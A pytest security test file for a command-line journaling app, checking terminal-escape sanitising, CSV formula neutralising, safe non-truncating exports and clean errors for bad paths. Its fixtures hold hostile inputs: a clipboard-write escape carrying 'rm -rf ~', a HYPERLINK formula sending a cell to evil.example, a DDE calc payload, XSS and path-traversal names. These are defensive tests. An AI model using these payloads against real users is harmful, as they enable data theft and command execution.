"""The command line under attack (issue 9): nothing it prints carries terminal control
characters, exports are safe to open and never truncate what was there, and bad names,
paths and numbers are one line, exit 2, nothing changed."""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from rebound_tui.cli import main
from rebound_tui.domain.clock import FixedClock
from rebound_tui.domain.models import Card, CheckIn, Interview, Lesson, Rebound
from rebound_tui.domain.safe_text import escape_controls, json_for_terminal, terminal_line
from rebound_tui.services.export import files as journal
from rebound_tui.store.backups import restore_backup
from rebound_tui.store.errors import StoreError
from rebound_tui.store.repository import Repository
from tests.helpers import REPO_ROOT, START, open_repo, tree_digest

# What must never reach a terminal: C0 controls (newline and tab aside), DEL, C1.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
NEXT_DAY = START + timedelta(days=1)


@pytest.fixture(autouse=True)
def _next_day(monkeypatch: pytest.MonkeyPatch) -> None:
    """Commands run the day after the data was written, when its backup exists."""
    monkeypatch.setenv("REBOUND_FAKE_NOW", NEXT_DAY.isoformat())
    monkeypatch.delenv("REBOUND_DEBUG", raising=False)


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def usage_exit(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """Run a command argparse refuses; assert exit 2 and return stderr."""
    with pytest.raises(SystemExit) as exit_info:
        main(list(args))
    assert exit_info.value.code == 2
    return capsys.readouterr().err


def one_safe_line(err: str) -> None:
    assert err.count("\n") == 1, err
    assert not RAW_CONTROL.search(err), err
    assert "Traceback" not in err


def with_backup(data_dir: Path, clock: FixedClock) -> Repository:
    """Data written on START, then opened on the next day (which backs it up)."""
    repo = open_repo(data_dir, clock)
    repo.interviews.put(Interview(id="i1", company="Acme", created_at=clock.now()))
    repo.close()
    repo = Repository.open(data_dir, FixedClock(NEXT_DAY))
    repo.close()
    assert (data_dir / "backups" / "2026-11-27").is_dir()
    return repo


def hostile(repo: Repository, clock: FixedClock) -> None:
    """Records whose text tries to drive a terminal, a spreadsheet and a Markdown page."""
    now = clock.now()
    repo.interviews.put(
        Interview(
            id="i1",
            company=f"Evil{TITLE}Corp",
            role='=HYPERLINK("http://evil.example/?"&A1,"click")',
            contact="@SUM(1+1)*cmd|' /C calc'!A0",
            notes="+1\x9b31m red",
            stage="onsite",
            outcome="rejected",
            created_at=now,
            updated_at=now,
        )
    )
    repo.rebounds.put(
        Rebound(id="r1", interview_id="i1", opened_at=now, step="tough", checkin_id="c1")
    )
    repo.checkins.put(
        CheckIn(
            id="c1",
            at=now,
            pleasantness=-2,
            energy=-1,
            words=("-sad", "tired"),
            intensity=7,
            note=f"\tTabbed{CLIPBOARD} note\x7f",
            rebound_id="r1",
        )
    )
    repo.lessons.put(
        Lesson(
            id="l1", rebound_id="r1", kind="lesson", position=0, text="\rcarriage", created_at=now
        )
    )
    repo.cards.put(
        Card(
            id="-k1",
            question="# Not a heading <script>alert(1)</script>",
            answer="- not a list\n1. not numbered\n\x1b[2Jcleared",
            created_at=now,
            updated_at=now,
            due=now,
        )
    )


# -- Deliver 6: restore ---------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    ["", ".", "..", ".hidden", "/etc", "2026-11-27/..", "../backups", "nope", TITLE, "x\x00y"],
)
def test_restore_of_a_bad_name_is_exit_2_and_changes_nothing(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, name: str
) -> None:
    with_backup(data_dir, clock)
    (data_dir / "backups" / ".hidden").mkdir()
    before = tree_digest(data_dir)
    code, out, err = run(capsys, "restore", name, "--data-dir", str(data_dir))
    assert code == 2
    assert out == ""
    one_safe_line(err)
    assert "there is no backup named" in err
    assert tree_digest(data_dir) == before
    assert Repository.open(data_dir, FixedClock(NEXT_DAY), readonly=True).interviews.get("i1")


def test_restore_with_an_empty_name_used_to_wipe_the_data(
    data_dir: Path, clock: FixedClock
) -> None:
    """The store refuses it too (the bug was in restore_backup's name check)."""
    with_backup(data_dir, clock)
    repo = Repository.open(data_dir, FixedClock(NEXT_DAY))
    before = tree_digest(data_dir)
    for name in ("", "\\", "a\\b"):
        with pytest.raises(StoreError, match="there is no backup named"):
            restore_backup(repo, name)
    assert tree_digest(data_dir) == before
    repo.close()


def test_a_real_backup_still_restores(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock
) -> None:
    with_backup(data_dir, clock)
    repo = Repository.open(data_dir, FixedClock(NEXT_DAY))
    repo.interviews.put(Interview(id="i2", company="Later", created_at=clock.now()))
    repo.close()
    code, out, _ = run(capsys, "restore", "2026-11-27", "--data-dir", str(data_dir))
    assert code == 0 and out.startswith("Restored backup 2026-11-27.")
    ids = [i.id for i in Repository.open(data_dir, FixedClock(NEXT_DAY)).interviews.all()]
    assert ids == ["i1"]


def test_restoring_the_oldest_daily_backup_on_a_new_day(
    capsys: pytest.CaptureFixture[str],
    data_dir: Path,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Before: opening the data dir for the restore took today's backup and pruned the
    oldest daily one: the very backup asked for ("no backup named", and it was gone)."""
    repo = open_repo(data_dir, clock)
    repo.interviews.put(Interview(id="oldest", company="Seven days ago"))
    repo.close()
    for day in range(1, 8):  # 2026-11-27 ... 2026-12-03: seven daily backups
        later = FixedClock(START + timedelta(days=day))
        repo = Repository.open(data_dir, later)
        repo.interviews.put(Interview(id=f"day{day}", company=f"Day {day}"))
        repo.close()
    backups = sorted(p.name for p in (data_dir / "backups").iterdir())
    assert backups[0] == "2026-11-27" and len(backups) == 7
    monkeypatch.setenv("REBOUND_FAKE_NOW", (START + timedelta(days=8)).isoformat())
    code, out, err = run(capsys, "restore", "2026-11-27", "--data-dir", str(data_dir))
    assert code == 0, err
    assert out.startswith("Restored backup 2026-11-27.")
    restored = Repository.open(data_dir, FixedClock(START + timedelta(days=8)), readonly=True)
    assert sorted(i.id for i in restored.interviews.all()) == ["oldest"]


def test_backup_names_are_listed_escaped(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock
) -> None:
    with_backup(data_dir, clock)
    (data_dir / "backups" / f"x{TITLE}").mkdir()
    code, out, _ = run(capsys, "backups", "--data-dir", str(data_dir))
    assert code == 0
    assert "x\\x1b]0;pwned\\x07" in out
    assert not RAW_CONTROL.search(out)


# -- Deliver 6: paths and numbers -----------------------------------------------------
def test_empty_data_dir_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for command in (
        ["status"],
        ["export"],
        ["backups"],
        ["restore", "x"],
        ["demo", "--no-launch"],
    ):
        code, _, err = run(capsys, *command, "--data-dir", "")
        assert code == 2, command
        one_safe_line(err)
        assert "--data-dir is empty" in err
    assert not (tmp_path / "default-home").exists()  # the default was not used instead


def test_data_dir_that_is_a_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Before: `status` printed "nothing to drill" and `demo` raised NotADirectoryError."""
    plain = tmp_path / f"notes{TITLE}.txt"
    plain.write_text("mine")
    for command in (["status"], ["import", str(plain)], ["demo", "--no-launch"], ["backups"]):
        code, _, err = run(capsys, *command, "--data-dir", str(plain))
        assert code == 2, (command, err)
        one_safe_line(err)
        assert "is not a directory" in err and "\\x1b]0;pwned" in err
    assert plain.read_text() == "mine"


@pytest.mark.parametrize("port", ["99999", "-1", "65536", "abc", "1e3", "9" * 5000, ""])
def test_serve_port_out_of_range(capsys: pytest.CaptureFixture[str], port: str) -> None:
    err = usage_exit(capsys, "serve", "--port", port)
    one_safe_line(err)
    assert "argument --port" in err and len(err) < 300


@pytest.mark.parametrize("limit", ["0", "-1", "9" * 5000, "2.5", TITLE])
def test_drill_limit_out_of_range(capsys: pytest.CaptureFixture[str], limit: str) -> None:
    err = usage_exit(capsys, "drill", "--limit", limit)
    one_safe_line(err)
    assert "argument --limit" in err and len(err) < 300


def test_arguments_with_escapes_are_shown_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    """Before: "unrecognized arguments" echoed the raw ESC ] 0 sequence (retitled the
    terminal)."""
    for argv in (["status", TITLE], [TITLE], ["export", "--format", TITLE], ["x" * 100_000]):
        err = usage_exit(capsys, *argv)
        one_safe_line(err)
        assert len(err) < 1000
    err = usage_exit(capsys, "status", CLIPBOARD)
    assert "\\x1b]52;c;" in err


def test_bad_output_paths_for_export(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    open_repo(data_dir, clock).close()
    plain = tmp_path / "plain"
    plain.write_text("keep")
    for output, fmt in (
        ("", "json"),
        (str(tmp_path / "missing" / "x.json"), "json"),
        (str(tmp_path), "md"),  # a directory
        (str(plain / "x.json"), "json"),  # below a file
        (str(plain), "csv"),  # a csv export needs a directory
        (str(tmp_path / ("n" * 300)), "json"),  # name too long
    ):
        code, out, err = run(
            capsys, "export", "--format", fmt, "-o", output, "--data-dir", str(data_dir)
        )
        assert code == 2, (output, err)
        assert out == ""
        one_safe_line(err)
    assert plain.read_text() == "keep"


def test_import_of_a_directory_or_an_empty_name(
    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path
) -> None:
    for name in (str(tmp_path), "", "  "):
        code, _, err = run(capsys, "import", name, "--data-dir", str(data_dir))
        assert code == 2, name
        one_safe_line(err)
    assert not data_dir.exists()


def test_an_unexpected_error_is_one_line(
    capsys: pytest.CaptureFixture[str], data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import rebound_tui.services.overview

    def broken(*_: object) -> None:
        raise RuntimeError(f"boom{TITLE}")

    monkeypatch.setattr(rebound_tui.services.overview, "build_overview", broken)
    code, _, err = run(capsys, "status", "--data-dir", str(data_dir))
    assert code == 1
    one_safe_line(err)
    assert "unexpected error (RuntimeError: boom\\x1b]0;pwned\\x07)" in err
    monkeypatch.setenv("REBOUND_DEBUG", "1")
    with pytest.raises(RuntimeError):
        main(["status", "--data-dir", str(data_dir)])


def test_an_os_error_is_one_line(
    capsys: pytest.CaptureFixture[str], data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import rebound_tui.store.repository

    def refused(*_: object, **__: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied", f"/x/{TITLE}")

    monkeypatch.setattr(rebound_tui.store.repository.Repository, "open", refused)
    code, _, err = run(capsys, "status", "--data-dir", str(data_dir))
    assert code == 1
    one_safe_line(err)
    assert err == "rebound: cannot use /x/\\x1b]0;pwned\\x07: Permission denied\n"


# -- Deliver 1: what the CLI prints -----------------------------------------------------
def test_markdown_export_to_the_terminal_has_no_control_characters(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock
) -> None:
    """Before: the Markdown export wrote raw ESC bytes (a clipboard write) to stdout."""
    hostile(open_repo(data_dir, clock), clock)
    code, out, _ = run(capsys, "export", "--format", "md", "--data-dir", str(data_dir))
    assert code == 0
    assert not RAW_CONTROL.search(out)
    assert "Evil\\\\x1b\\]0;pwned\\\\x07Corp" in out  # shows as Evil\x1b]0;pwned\x07Corp
    assert "\\\\x1b\\]52;c;cm0gLXJmIH4=\\\\x07" in out
    assert "### \\# Not a heading \\<script\\>alert(1)\\</script\\>" in out
    lines = out.splitlines()
    assert "> \\- not a list" in lines
    assert "> 1\\. not numbered" in lines
    assert "> \\\\x1b\\[2Jcleared" in lines
    assert "still open, at step tough" in out


def test_json_export_is_safe_on_a_terminal_and_round_trips(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock
) -> None:
    hostile(open_repo(data_dir, clock), clock)
    code, out, _ = run(capsys, "export", "--data-dir", str(data_dir))
    assert code == 0
    assert not RAW_CONTROL.search(out)  # json escapes C0; DEL and C1 are escaped too
    assert "\\u009b31m" in out and "\\u007f" in out
    document = json.loads(out)
    (interview,) = document["interviews"]
    assert interview["company"] == f"Evil{TITLE}Corp"
    assert interview["notes"] == "+1\x9b31m red"
    assert document["checkins"][0]["note"] == f"\tTabbed{CLIPBOARD} note\x7f"


def test_status_is_plain(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock
) -> None:
    hostile(open_repo(data_dir, clock), clock)
    code, out, _ = run(capsys, "status", "--json", "--data-dir", str(data_dir))
    assert code == 0 and out.isascii() and not RAW_CONTROL.search(out)
    assert json.loads(out)["open_rebounds"] == 1
    code, out, _ = run(capsys, "status", "--data-dir", str(data_dir))
    assert code == 0 and out.count("\n") == 1 and not RAW_CONTROL.search(out)


def test_safe_text_helpers() -> None:
    assert terminal_line("a\nb\tc\x1b[31m\x9b\ud800") == "a\\nb\\tc\\x1b[31m\\x9b\\ud800"
    assert escape_controls("a\r\nb\tc\rd\x07") == "a\nb\tc\\rd\\x07"
    text = json.dumps({"k": "\x7f\x85\ud800é"}, ensure_ascii=False)
    safe = json_for_terminal(text)
    assert safe == '{"k": "\\u007f\\u0085\\ud800é"}'
    assert json.loads(safe) == json.loads(text)
    safe.encode("utf-8")  # a lone surrogate would not encode


# -- Deliver 5: CSV -----------------------------------------------------------------
def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_never_start_a_formula(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    """Before: `=HYPERLINK(...)` was written as a live formula."""
    hostile(open_repo(data_dir, clock), clock)
    out = tmp_path / "csv"
    code, _, _ = run(
        capsys, "export", "--format", "csv", "-o", str(out), "--data-dir", str(data_dir)
    )
    assert code == 0
    (interview,) = read_csv(out / "interviews.csv")
    assert interview["role"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert interview["contact"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert interview["notes"] == "'+1\\x9b31m red"
    assert interview["company"] == "Evil\\x1b]0;pwned\\x07Corp"
    (checkin,) = read_csv(out / "checkins.csv")
    assert checkin["note"] == "'\tTabbed\\x1b]52;c;cm0gLXJmIH4=\\x07 note\\x7f"
    assert checkin["words"] == "'-sad; tired"
    assert (checkin["pleasantness"], checkin["energy"]) == ("-2", "-1")  # numbers stay numbers
    (lesson,) = read_csv(out / "lessons.csv")
    assert lesson["text"] == "\\rcarriage"  # a CR is escaped, so no formula either
    (card,) = read_csv(out / "cards.csv")
    assert card["id"] == "'-k1"
    for path in out.iterdir():
        raw = path.read_bytes().decode("utf-8")
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", raw), path.name
        for row in csv.reader(raw.splitlines()):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{path.name}: {cell!r}")
                if cell.startswith("-"):
                    float(cell)  # only a real number may start with a minus


def test_csv_folder_and_files_are_private(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    hostile(open_repo(data_dir, clock), clock)
    out = tmp_path / "new" / "csv"
    old = os.umask(0)
    try:
        code, _, _ = run(
            capsys, "export", "--format", "csv", "-o", str(out), "--data-dir", str(data_dir)
        )
    finally:
        os.umask(old)
    assert code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = sorted(out.iterdir())
    assert len(files) == 13  # one per collection, and the settings
    assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o600}


def test_csv_export_replaces_planted_links(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    """A folder someone else prepared, with interviews.csv linked to a file of yours:
    the export replaces the link and leaves your file alone."""
    hostile(open_repo(data_dir, clock), clock)
    precious = tmp_path / "bashrc"
    precious.write_text("alias ll='ls -l'")
    out = tmp_path / "shared"
    out.mkdir(mode=0o755)
    (out / "interviews.csv").symlink_to(precious)
    code, _, _ = run(
        capsys, "export", "--format", "csv", "-o", str(out), "--data-dir", str(data_dir)
    )
    assert code == 0
    assert precious.read_text() == "alias ll='ls -l'"
    assert not (out / "interviews.csv").is_symlink()
    assert read_csv(out / "interviews.csv")[0]["id"] == "i1"
    assert stat.S_IMODE(out.stat().st_mode) == 0o755  # a folder that was there is kept as is


# -- Deliver 4: exports never truncate, and are private ---------------------------------
def test_export_file_is_private_and_replaced_whole(
    capsys: pytest.CaptureFixture[str], data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    hostile(open_repo(data_dir, clock), clock)
    target = tmp_path / "export.json"
    target.write_text("old")
    target.chmod(0o644)
    old = os.umask(0)
    try:
        code, _, err = run(capsys, "export", "-o", str(target), "--data-dir", str(data_dir))
    finally:
        os.umask(old)
    assert code == 0 and err.startswith("Exported to ")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert json.loads(target.read_text())["interviews"][0]["id"] == "i1"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_failing_write_leaves_the_old_export_whole(
    capsys: pytest.CaptureFixture[str],
    data_dir: Path,
    clock: FixedClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Before: the file was opened with truncation first, so a full disk emptied it."""
    hostile(open_repo(data_dir, clock), clock)
    target = tmp_path / "export.md"
    target.write_text("last week's journal")

    def disk_full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(journal.os, "fsync", disk_full)
    code, _, err = run(
        capsys, "export", "--format", "md", "-o", str(target), "--data-dir", str(data_dir)
    )
    assert code == 2
    assert err == f"rebound: error: cannot write {target}: No space left on device\n"
    assert target.read_text() == "last week's journal"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_write_private_replaces_links_and_writes_devices(tmp_path: Path) -> None:
    """A symlink planted where an export goes is replaced, not followed. Saved feedback
    letters go through write_private too."""
    real = tmp_path / "precious.txt"
    real.write_text("before")
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    journal.write_private(link, b"after")
    assert not link.is_symlink() and link.read_text() == "after"
    assert real.read_text() == "before"
    assert stat.S_IMODE(link.stat().st_mode) == 0o600
    journal.write_private(Path(os.devnull), b"nothing")
    assert Path(os.devnull).exists() and not Path(os.devnull).is_file()
    with pytest.raises(IsADirectoryError):
        journal.write_private(tmp_path, b"x")


# -- real processes -------------------------------------------------------------------
def rebound(*args: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "REBOUND_FAKE_NOW": NEXT_DAY.isoformat(), **kwargs.pop("env", {})}  # type: ignore[dict-item]
    return subprocess.run(
        [sys.executable, "-m", "rebound_tui", *args],
        capture_output=True,
        text=True,
        check=False,
        env=env,
        cwd=REPO_ROOT,
        timeout=60,
        **kwargs,  # type: ignore[arg-type]
    )


def test_real_process_exit_codes_and_stderr(
    tmp_path: Path, data_dir: Path, clock: FixedClock
) -> None:
    with_backup(data_dir, clock)
    before = tree_digest(data_dir)
    cases = [
        (["restore", "", "--data-dir", str(data_dir)], 2),
        (["restore", TITLE, "--data-dir", str(data_dir)], 2),
        (["restore", "nope", "--data-dir", str(data_dir)], 2),
        (["status", "--data-dir", ""], 2),
        (["serve", "--port", "99999"], 2),
        (["status", "--data-dir", str(tmp_path / ("a" * 5000))], 1),  # name too long
        (["frobnicate"], 2),
    ]
    for argv, expected in cases:
        result = rebound(*argv)
        assert result.returncode == expected, (argv, result.stderr)
        one_safe_line(result.stderr)
        assert result.stdout == ""
    assert tree_digest(data_dir) == before


def test_stdio_closed_or_full(data_dir: Path, clock: FixedClock) -> None:
    """Before: `rebound export >&-` and `rebound <&-` were AttributeError tracebacks."""
    open_repo(data_dir, clock).close()
    script = (
        f'{sys.executable} -m rebound_tui export --data-dir "$1" >&-; echo "rc=$?"; '
        f'{sys.executable} -m rebound_tui export --data-dir "$1" >/dev/full; echo "rc=$?"; '
        f'{sys.executable} -m rebound_tui --data-dir "$1" <&-; echo "rc=$?"'
    )
    result = subprocess.run(
        ["bash", "-c", script, "bash", str(data_dir)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "REBOUND_FAKE_NOW": NEXT_DAY.isoformat()},
        cwd=REPO_ROOT,
        timeout=60,
    )
    assert result.stdout.splitlines() == ["rc=2", "rc=2", "rc=2"]
    assert result.stderr.splitlines() == [
        "rebound: error: standard output is closed; write the export to a file with -o",
        "rebound: error: cannot write the export to standard output: No space left on device",
        "rebound: error: the full-screen app needs a terminal; `rebound status` and "
        "`rebound export` work without one",
    ]


def test_a_closed_pipe_is_quiet(data_dir: Path, clock: FixedClock) -> None:
    repo = open_repo(data_dir, clock)
    repo.interviews.put_many(
        Interview(id=f"i{n}", company=f"Company {n}" * 20) for n in range(300)
    )
    repo.close()
    script = (
        f'{sys.executable} -m rebound_tui export --data-dir "$1" | head -c 10 >/dev/null; '
        'echo "rc=${PIPESTATUS[0]}"'
    )
    result = subprocess.run(
        ["bash", "-c", script, "bash", str(data_dir)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "REBOUND_FAKE_NOW": NEXT_DAY.isoformat()},
        cwd=REPO_ROOT,
        timeout=60,
    )
    assert result.stdout.strip() == "rc=0"
    assert result.stderr == ""


def test_an_encoding_that_cannot_show_the_text(data_dir: Path, clock: FixedClock) -> None:
    open_repo(data_dir, clock).cards.put(Card(id="k1", question="Café Zürich", answer="ß"))
    result = rebound(
        "export", "--format", "md", "--data-dir", str(data_dir), env={"PYTHONIOENCODING": "ascii"}
    )
    assert result.returncode == 1
    one_safe_line(result.stderr)
    assert "cannot show" in result.stderr


def _namespace_prefix() -> list[str]:
    if shutil.which("unshare") is None:
        pytest.fail("these tests need unshare(1) for a private mount namespace")
    return ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-r", "-m"]


def test_export_on_a_really_full_disk_keeps_the_old_file(
    tmp_path: Path, data_dir: Path, clock: FixedClock
) -> None:
    """A 64 KiB tmpfs, filled up: the export fails with one line, exit 2, and the file
    that was there keeps every byte (checked inside the same mount namespace)."""
    repo = open_repo(data_dir, clock)
    repo.interviews.put_many(Interview(id=f"i{n}", company="x" * 500) for n in range(200))
    repo.close()
    disk = tmp_path / "disk"
    disk.mkdir()
    script = (
        'mount -t tmpfs -o size=64k tmpfs "$1" && '
        'printf "precious" > "$1/out.json" && '
        '(dd if=/dev/zero of="$1/fill" bs=1k 2>/dev/null; true) && '
        'rm -f "$1/fill" && head -c 40000 /dev/zero > "$1/fill"; '
        f'{sys.executable} -m rebound_tui export -o "$1/out.json" --data-dir "$2"; '
        'echo "rc=$?"; cat "$1/out.json"; echo; ls -A "$1"'
    )
    result = subprocess.run(
        [*_namespace_prefix(), "bash", "-c", script, "bash", str(disk), str(data_dir)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "REBOUND_FAKE_NOW": NEXT_DAY.isoformat()},
        cwd=REPO_ROOT,
        timeout=60,
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "rc=2", (result.stdout, result.stderr)
    assert lines[1] == "precious"
    assert sorted(lines[2:]) == ["fill", "out.json"]  # no temp file left behind
    one_safe_line(result.stderr)
    assert "No space left on device" in result.stderr


def test_export_into_a_read_only_folder(tmp_path: Path, data_dir: Path, clock: FixedClock) -> None:
    open_repo(data_dir, clock).close()
    folder = tmp_path / "ro"
    folder.mkdir()
    (folder / "out.md").write_text("kept")
    script = (
        'mount --bind -o ro "$1" "$1" && '
        f'{sys.executable} -m rebound_tui export --format md -o "$1/out.md" --data-dir "$2"; '
        'echo "rc=$?"; '
        f'{sys.executable} -m rebound_tui export --format csv -o "$1/csv" --data-dir "$2"; '
        'echo "rc=$?"'
    )
    result = subprocess.run(
        [*_namespace_prefix(), "bash", "-c", script, "bash", str(folder), str(data_dir)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "REBOUND_FAKE_NOW": NEXT_DAY.isoformat()},
        cwd=REPO_ROOT,
        timeout=60,
    )
    assert result.stdout.splitlines() == ["rc=2", "rc=2"], result.stderr
    errors = result.stderr.splitlines()
    assert len(errors) == 2 and all("Read-only file system" in e for e in errors), errors
    assert "Traceback" not in result.stderr
    assert (folder / "out.md").read_text() == "kept"
    assert sorted(p.name for p in folder.iterdir()) == ["out.md"]


@pytest.mark.slow
async def test_a_saved_feedback_letter_is_private(
    data_dir: Path, clock: FixedClock, tmp_path: Path
) -> None:
    """Before: the letter was written with the umask's mode (0644 or, here, 0666)."""
    from textual.widgets import Input

    from rebound_tui.services import interviews
    from rebound_tui.ui.app import ReboundApp
    from rebound_tui.ui.dialogs.confirm import PromptScreen
    from rebound_tui.ui.screens.rebound import ReboundScreen
    from rebound_tui.ui.widgets.feedback_composer import FeedbackComposer

    repo = open_repo(data_dir, clock)
    interview = interviews.save_interview(repo, Interview(id="i1", company="Hooli"))
    _, rebound_record = interviews.mark_rejected(repo, interview)
    letter = tmp_path / "letters" / "letter.txt"
    old = os.umask(0)
    try:
        app = ReboundApp(repo, clock)
        async with app.run_test(size=(80, 24)) as pilot:
            await app.push_screen(ReboundScreen(rebound_record.id))
            await app.screen.go_to("feedback")  # type: ignore[attr-defined]
            await pilot.pause()
            app.screen.query_one(FeedbackComposer).post_message(
                FeedbackComposer.SaveToFileRequested()
            )
            await pilot.pause()
            assert isinstance(app.screen, PromptScreen)
            app.screen.query_one(Input).value = str(letter)
            await pilot.press("enter")
            await pilot.pause()
    finally:
        os.umask(old)
    assert letter.read_text(encoding="utf-8").strip()
    assert stat.S_IMODE(letter.stat().st_mode) == 0o600
    assert stat.S_IMODE(letter.parent.stat().st_mode) == 0o700
